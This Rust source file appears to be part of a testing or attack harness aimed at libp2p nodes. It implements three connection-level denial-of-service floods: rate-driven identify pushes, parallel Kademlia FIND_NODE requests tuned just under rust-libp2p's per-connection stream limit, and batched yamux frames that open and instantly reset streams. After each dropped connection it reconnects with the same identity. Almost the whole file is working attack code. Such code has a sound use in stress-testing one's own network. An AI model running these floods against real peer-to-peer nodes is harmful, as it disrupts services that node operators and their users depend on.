//! Attackers that make work over one connection: identify pushes, requests of the DHT, streams opened and
//! reset. One whose connection is closed comes again with the same identity.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use libp2p::Multiaddr;
use libp2p::identity::Keypair;
use serde_json::Value;
use tokio::sync::Semaphore;
use tokio::time::{MissedTickBehavior, interval, sleep};

use super::frames;
use super::hold::Counts;
use super::wire::{Wire, field, framed, read_consent, read_framed};
use crate::{Result, line};

/// The pause before it comes again.
const PAUSE: Duration = Duration::from_millis(100);
const PUSH: &str = "/ipfs/id/push/1.0.0";
/// Pushes come in batches, one in this time, so many of them at once.
const BATCH: Duration = Duration::from_millis(10);
const PUSHES_AT_ONCE: usize = 128;
/// peerkit's own, as nodes of profile offline speak it.
const DHT: &str = "/peerkit/kad/1.0.0";
/// Streams of requests at once: the most that rust-libp2p's kad serves on a connection is 32.
const STREAMS: usize = 30;
/// Frames that go out in one write: each stream takes two.
const STREAMS_IN_A_WRITE: u32 = 256;

/// The kinds of work.
#[derive(Debug, Clone, Copy)]
pub enum Work {
    Pushes,
    Requests,
    Frames,
}

/// Attacks with one connection at a time.
pub async fn flood(options: Value, work: Work, counts: Arc<Counts>) -> Result<()> {
    let target: Multiaddr = line::text(&options, "target")?.parse()?;
    let source: Ipv4Addr = line::text(&options, "source")?.parse()?;
    let key = Keypair::generate_ed25519();
    let done = Arc::new(AtomicU64::new(0));
    loop {
        let ended = match work {
            Work::Pushes => pushes(source, &target, &key, &counts, &done, &options).await,
            Work::Requests => requests(source, &target, &key, &counts).await,
            Work::Frames => resets(source, &target, &key, &counts).await,
        };
        if let Err(why) = ended {
            counts.ended_by(why);
        }
        sleep(PAUSE).await;
    }
}

/// Pushes identify at a rate; each push tells another agent.
async fn pushes(
    source: Ipv4Addr,
    target: &Multiaddr,
    key: &Keypair,
    counts: &Arc<Counts>,
    done: &Arc<AtomicU64>,
    options: &Value,
) -> Result<()> {
    let batch = line::number(options, "per_s")? * BATCH.as_millis() as u64 / 1000;
    let connection = Wire::connect(source, target, key).await?;
    // A push counts only once the remote has asked by itself.
    sleep(PAUSE).await;
    let turns = Arc::new(Semaphore::new(PUSHES_AT_ONCE));
    let mut pace = interval(BATCH);
    pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        pace.tick().await;
        for _ in 0..batch {
            let turn = Arc::clone(&turns).acquire_owned().await?;
            let mut stream = connection.open(PUSH).await?;
            let n = done.fetch_add(1, Ordering::Relaxed);
            let counts = Arc::clone(counts);
            tokio::spawn(async move {
                let message = field(6, format!("attacker {n}").as_bytes());
                if stream.write_all(&framed(&message)).await.is_ok()
                    && stream.close().await.is_ok()
                    && stream.read_to_end(&mut Vec::new()).await.is_ok()
                {
                    counts.made();
                }
                drop(turn);
            });
        }
    }
}

/// Asks the DHT, each stream's next question after the answer to the one before.
async fn requests(
    source: Ipv4Addr,
    target: &Multiaddr,
    key: &Keypair,
    counts: &Arc<Counts>,
) -> Result<()> {
    let connection = Wire::connect(source, target, key).await?;
    let asking = (0..STREAMS).map(|n| {
        let (connection, counts) = (connection.clone(), Arc::clone(counts));
        async move { ask(connection, n as u64, &counts).await }
    });
    futures::future::try_join_all(asking).await.map(drop)
}

/// Asks over one stream, from the question of this number on.
async fn ask(connection: Wire, first: u64, counts: &Counts) -> Result<()> {
    let mut stream = connection.open(DHT).await?;
    for n in (first..).step_by(STREAMS) {
        stream.write_all(&framed(&question(n))).await?;
        stream.flush().await?;
        if n == first {
            read_consent(&mut stream, DHT).await?;
        }
        read_framed(&mut stream).await?;
        counts.made();
    }
    Ok(())
}

/// Returns FIND_NODE for a key, as protobuf.
fn question(n: u64) -> Vec<u8> {
    const FIND_NODE: [u8; 2] = [8, 4];
    let mut key = [0x12; 34];
    key[1] = 32;
    key[2..10].copy_from_slice(&n.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes());
    [&FIND_NODE[..], &field(2, &key)].concat()
}

/// Opens streams of yamux and resets them at once, as fast as the remote reads.
async fn resets(
    source: Ipv4Addr,
    target: &Multiaddr,
    key: &Keypair,
    counts: &Counts,
) -> Result<()> {
    let (reader, writer) = frames::connect(source, target, key).await?;
    futures::future::try_join(read_away(reader), write_frames(writer, counts)).await.map(drop)
}

/// Reads what the remote says, until it closes.
async fn read_away(mut reader: impl AsyncRead + Unpin) -> Result<()> {
    let mut buffer = vec![0; 16 << 10];
    while reader.read(&mut buffer).await? > 0 {}
    Err("the remote closed".into())
}

async fn write_frames(mut writer: impl AsyncWrite + Unpin, counts: &Counts) -> Result<()> {
    // A dialler's streams have odd numbers.
    for first in (1_u32..).step_by(2 * STREAMS_IN_A_WRITE as usize) {
        let streams = (0..STREAMS_IN_A_WRITE).map(|n| first + 2 * n);
        let batch: Vec<u8> = streams.flat_map(open_and_reset).collect();
        writer.write_all(&batch).await?;
        writer.flush().await?;
        for _ in 0..STREAMS_IN_A_WRITE {
            counts.made();
        }
    }
    Ok(())
}

/// Returns two frames of yamux: a window update that opens a stream, and one that resets it.
fn open_and_reset(stream: u32) -> Vec<u8> {
    const WINDOW_UPDATE: u8 = 1;
    const SYN: u8 = 1;
    const RST: u8 = 8;
    let frame = |flags| {
        let mut frame = [0, WINDOW_UPDATE, 0, flags, 0, 0, 0, 0, 0, 0, 0, 0];
        frame[4..8].copy_from_slice(&stream.to_be_bytes());
        frame
    };
    [frame(SYN), frame(RST)].concat()
}
